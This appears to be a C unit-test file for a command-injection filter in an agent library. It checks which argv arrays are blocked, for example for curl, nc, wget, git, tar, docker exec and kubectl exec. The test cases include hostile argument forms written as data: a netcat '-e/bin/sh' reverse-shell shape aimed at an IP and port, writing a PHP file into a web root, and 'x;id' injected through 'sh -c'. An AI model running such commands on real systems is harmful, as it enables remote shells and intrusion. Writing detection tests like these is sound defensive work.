/* libmoatagent: the command_injection check of argv arrays
 * (ma_shell_argv.c), session 15's rules — what an option's value does
 * for the program that reads it: ssh's -o keywords, git's -c keys, the
 * code of an interpreter's -c/-e, the command of docker exec and
 * kubectl exec, a script file named by the user; and the ordinary values
 * beside them that must pass (ssh -o ConnectTimeout=5, vim file.txt,
 * python script.py --flag, docker exec c ls, a file name with spaces).
 * The older argv rules are in test_agent_shell.c. */
#include "agent_test.h"
#include "ma_shell.h"

#define CMDI_BLOCK "{\"interceptors\":{\"command_injection\":{\"mode\":\"block\"}}}"

static const struct moat_policy *pol;

static int group_setup(void **state)
{
	(void)state;
	pol = moat_policy_parse(CMDI_BLOCK, 1, NULL, 0);
	return pol ? 0 : -1;
}

static int group_teardown(void **state)
{
	(void)state;
	moat_policy_release(pol);
	return 0;
}

/* The verdict of moat_check_argv for argv with input as the request's one
 * input; a block must carry an event (the rule is checked when rule is
 * not NULL). */
static int argv_rule(const char *input, const char *const *argv, const char *rule)
{
	struct moat_request_info ri = {.method = "GET", .endpoint = "/tools/run", .policy = pol};
	struct moat_request *r = NULL;
	int v;

	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_QUERY, "q", input, strlen(input)), 0);
	v = moat_check_argv(r, argv, -1);
	if (v == MOAT_BLOCK) {
		const struct moat_event *ev = moat_request_event(r);
		assert_non_null(ev);
		if (rule)
			assert_string_equal(ev->rule, rule);
	}
	moat_request_end(r);
	return v;
}

static int argv_check(const char *input, const char *const *argv)
{
	return argv_rule(input, argv, NULL);
}

/* curl's -e is the referer (curl(1)): a value, whatever it holds, and an
 * input that adds -e/x as an option only sets a referer. The letter
 * means a program to run for nc, a script for wget, sed, perl: the
 * program's own table decides, not the generic "-e/" rule. */
static void argv_curl_e_is_the_referer(void **state)
{
	(void)state;
	{
		const char *a[] = {"curl", "-e", "https://ref.example/", "https://x/", NULL};
		const char *b[] = {"curl", "-s", "-e/index.html", "https://x/", NULL};
		const char *c[] = {"curl", "-e", "-e/bin/sh", "https://x/", NULL};
		const char *d[] = {"curl", "--referer", "/bin/sh;auto", "https://x/", NULL};
		const char *e[] = {"curl", "-se/bin/sh", "https://x/", NULL};
		assert_int_equal(argv_check("https://ref.example/", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-e/index.html", b), MOAT_ALLOW);
		assert_int_equal(argv_check("-e/bin/sh", c), MOAT_ALLOW);
		assert_int_equal(argv_check("/bin/sh;auto", d), MOAT_ALLOW);
		assert_int_equal(argv_check("-se/bin/sh", e), MOAT_ALLOW);
	}
	{ /* the letter that runs or reads a script elsewhere still fires */
		const char *a[] = {"nc", "-e/bin/sh", "10.0.0.1", "4444", NULL};
		const char *b[] = {"wget", "-e/tmp/x", "https://x/", NULL};
		const char *c[] = {"mytool", "-e/bin/sh", NULL};
		const char *d[] = {"curl", "-o/tmp/x", "https://x/", NULL};
		assert_int_equal(argv_rule("-e/bin/sh", a, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-e/tmp/x", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-e/bin/sh", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-o/tmp/x", d, "cmd.option"), MOAT_BLOCK);
	}
	{ /* -C/ that the generic rule caught for tar, git and man stays
	   * caught by their tables: tar writes under that directory, git
	   * runs that repository's hooks, man reads that configuration */
		const char *a[] = {"tar", "-xf", "/srv/a.tar", "-C/etc", NULL};
		const char *b[] = {"git", "-C/tmp/evil", "status", NULL};
		const char *c[] = {"man", "-C/tmp/man.conf", "ls", NULL};
		const char *d[] = {"tar", "-C", "/srv/out", "-xf", "/srv/a.tar", NULL};
		assert_int_equal(argv_rule("-C/etc", a, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-C/tmp/evil", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-C/tmp/man.conf", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_check("/srv/out", d), MOAT_ALLOW);
	}
}

/* A command run in a container or another root (docker/podman exec
 * CONTAINER, docker run IMAGE, kubectl exec POD -- ..., chroot DIR) is
 * judged as argv[0]'s would be: its shell's -c script is a command line,
 * its own dangerous options fire; the runner's options and their values,
 * the container's name and ordinary commands pass. */
static void argv_commands_in_containers_are_judged(void **state)
{
	(void)state;
	{
		const char *a[] = {"docker", "exec", "web", "sh", "-c", "ls x;id", NULL};
		const char *b[] = {"docker", "exec", "-u", "www",     "-w", "/srv",
		                   "web",    "bash", "-c", "ls x;id", NULL};
		const char *c[] = {"kubectl", "-n", "prod", "exec", "api-0",   "-c",
		                   "app",     "--", "sh",   "-c",   "ls x;id", NULL};
		const char *d[] = {"podman",   "run", "--rm", "-e",      "A=1",
		                   "alpine:3", "sh",  "-c",   "ls x;id", NULL};
		const char *e[] = {"docker", "container", "exec",    "web",
		                   "sh",     "-c",        "ls x;id", NULL};
		const char *f[] = {"sudo", "docker", "exec",    "web", "busybox",
		                   "sh",   "-c",     "ls x;id", NULL};
		const char *g[] = {"chroot", "/srv/jail", "sh", "-c", "ls x;id", NULL};
		const char *h[] = {"docker", "--context", "prod", "exec",    "web", "env",
		                   "A=1",    "sh",        "-c",   "ls x;id", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", d), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", e), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", f), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", g), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", h), MOAT_BLOCK);
	}
	{ /* the program's own options, inside the container */
		const char *a[] = {"docker",           "exec",      "web", "curl",
		                   "-o/var/www/x.php", "http://h/", NULL};
		const char *b[] = {"kubectl", "exec", "api-0", "--", "/tmp/x.sh", NULL};
		assert_int_equal(argv_rule("-o/var/www/x.php", a, "cmd.option"), MOAT_BLOCK);
		const char *c[] = {"sudo", "-u", "www", "/tmp/x.sh", NULL};
		assert_int_equal(argv_rule("/tmp/x.sh", b, "cmd.argv0"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", c, "cmd.argv0"), MOAT_BLOCK);
	}
	{ /* ordinary commands, names and values */
		const char *a[] = {"docker", "exec", "web", "ls", "x;id", NULL};
		const char *b[] = {"docker", "exec", "-e", "NOTE=x;id", "web", "ls", NULL};
		const char *c[] = {"docker", "logs", "web", "sh", "-c", "x;id", NULL};
		const char *d[] = {"kubectl", "exec", "api-0", "--", "ls", "my file (1).txt", NULL};
		const char *e[] = {"docker", "exec", "my-web-1", "ls", NULL};
		const char *f[] = {"docker", "run", "--name", "x;id", "alpine", "ls", NULL};
		const char *g[] = {"docker", "exec", "web", "sh", "-c", "ls 'x;id'", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_ALLOW);
		assert_int_equal(argv_check("NOTE=x;id", b), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", c), MOAT_ALLOW);
		assert_int_equal(argv_check("my file (1).txt", d), MOAT_ALLOW);
		assert_int_equal(argv_check("my-web-1", e), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", f), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", g), MOAT_ALLOW);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(argv_curl_e_is_the_referer),
	    cmocka_unit_test(argv_commands_in_containers_are_judged),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
